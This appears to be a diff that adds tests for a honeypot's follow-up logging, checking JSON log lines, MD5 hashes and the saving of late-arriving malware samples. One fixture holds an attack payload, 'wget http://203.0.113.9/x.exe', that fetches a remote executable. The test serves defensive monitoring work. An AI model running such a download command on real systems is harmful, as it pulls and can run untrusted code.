@@ -422,3 +422,39 @@ def test_file_names_and_log_lines_take_nothing_from_odd_fields(
     assert ATTACK_NAME.fullmatch(SAVEFILE.attack_file_name(attack))
     line = LOGATTACKER.format_line(attack)
     assert line.isascii() and line.count("\n") == 1 and line.endswith("\n")
+
+
+# --- follow-ups (downloads that ended after the attack was recorded) ---------------------------
+
+
+def test_logjson_follow_up_line_has_the_attack_id_and_its_downloads(tmp_path: Path) -> None:
+    registry = log_json(tmp_path)
+    attack = make_attack()
+    run_hook(registry, "postproc", attack)
+    attack.add_download(make_download(b"MZ late sample"))
+    run_hook(registry, "followup", attack)
+    registry.close()
+    first, follow = read_json_lines(tmp_path / "attackers.json")
+    assert first["download_count"] == 0 and "follow_up" not in first
+    assert follow["id"] == attack.id and follow["follow_up"] is True
+    assert follow["download_count"] == 1
+    md5 = hashlib.md5(b"MZ late sample").hexdigest()
+    assert follow["downloads"][0]["payload"]["md5_hash"] == md5
+    assert "payload" not in follow["attack_connection"]  # the attack's line has it
+    assert follow["attack_connection"]["remote_ip"] == "198.51.100.7"
+
+
+def test_savefile_saves_the_samples_of_a_follow_up_and_records_their_paths(
+    tmp_path: Path
+) -> None:
+    registry = savefile(tmp_path)
+    attack = make_attack(b"wget http://203.0.113.9/x.exe")
+    run_hook(registry, "savedata", attack)
+    attack.add_download(make_download(b"MZ late sample"))
+    run_hook(registry, "followup", attack)
+    registry.close()
+    md5 = hashlib.md5(b"MZ late sample").hexdigest()
+    assert (tmp_path / "dl" / md5).read_bytes() == b"MZ late sample"
+    result = attack.analysis["SaveFile"]
+    assert result["downloads"] == [f"{tmp_path / 'dl'}/{md5}"]
+    assert result["attack_file"].startswith(str(tmp_path / "attacks"))  # kept from SAVEDATA
